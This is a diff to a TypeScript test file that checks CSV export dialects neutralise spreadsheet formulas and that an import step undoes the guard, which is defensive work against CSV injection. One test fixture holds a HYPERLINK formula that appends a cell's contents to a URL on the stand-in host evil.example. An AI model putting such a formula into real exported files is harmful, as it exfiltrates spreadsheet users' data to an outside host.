@@ -1,5 +1,12 @@
 import { describe, expect, it } from 'vitest';
-import { CSV_DIALECTS, csvText, neutraliseFormula, platformDialectOf, type CsvDialectName } from './dialects.js';
+import {
+  CSV_DIALECTS,
+  csvText,
+  neutraliseFormula,
+  platformDialectOf,
+  removeFormulaGuard,
+  type CsvDialectName,
+} from './dialects.js';
 
 const ROWS = [
   ['Nom', 'Prénom', 'Identifiant'],
@@ -34,11 +41,35 @@ describe('the CSV dialects (spec 3 §9)', () => {
     expect(csvText([['a,b', 'a;b']], CSV_DIALECTS.KERB)).toBe('\uFEFF"a,b",a;b\r\n');
   });
 
-  it('knows a platform by its id only', () => {
+  it('knows a platform by its id only, never as one of the spreadsheet dialects', () => {
     expect(platformDialectOf('KNE')).toBe(CSV_DIALECTS.KNE);
     expect(platformDialectOf('NOPE')).toBeUndefined();
     expect(platformDialectOf('toString')).toBeUndefined();
+    expect(platformDialectOf('FULL')).toBeUndefined();
+    expect(platformDialectOf('REPORT')).toBeUndefined();
   });
+
+  const FORMULAS = ['=1+1', '+33 6', '-2', '@SUM(A1)', '=HYPERLINK("http://evil.example/?"&C2,"x")', '\tcmd'];
+
+  it.each<CsvDialectName>(['FULL', 'BRUT', 'URL', 'REPORT'])(
+    'guards every cell of %s, a file people open, against formulas',
+    (name) => {
+      const text = csvText([FORMULAS], CSV_DIALECTS[name]);
+      const cells = text
+        .replace(/^\uFEFF/, '')
+        .replace(/\r\n$/, '')
+        .split(';');
+      expect(cells[0]).toBe("'=1+1");
+      expect(cells.every((cell) => cell.startsWith("'") || cell.startsWith('"\''))).toBe(true);
+    },
+  );
+
+  it.each<CsvDialectName>(['CNS', 'KNE', 'HMH', 'PNE', 'KERB'])(
+    'keeps the values of %s, a file a publisher reads, exact',
+    (name) => {
+      expect(csvText([['=1+1', '-2']], CSV_DIALECTS[name])).not.toContain("'");
+    },
+  );
 });
 
 describe('formula neutralisation (OWASP CSV injection)', () => {
@@ -55,5 +86,18 @@ describe('formula neutralisation (OWASP CSV injection)', () => {
 
   it.each(['Zoé', 'Jean-Luc', '6e A', '', "l'école"])('keeps %j as it is', (value) => {
     expect(neutraliseFormula(value)).toBe(value);
+  });
+
+  it.each(['=1+2', '+33 6', '-2', '@SUM(A1)', '\tcmd', 'Zoé', "'quoted", "''=1"])(
+    'is undone by the import for %j: a round trip adds no quote',
+    (value) => {
+      expect(removeFormulaGuard(neutraliseFormula(value))).toBe(value);
+      expect(removeFormulaGuard(removeFormulaGuard(neutraliseFormula(neutraliseFormula(value))))).toBe(value);
+    },
+  );
+
+  it('keeps an apostrophe that guards nothing', () => {
+    expect(removeFormulaGuard("l'école")).toBe("l'école");
+    expect(removeFormulaGuard("'Zoé")).toBe("'Zoé");
   });
 });
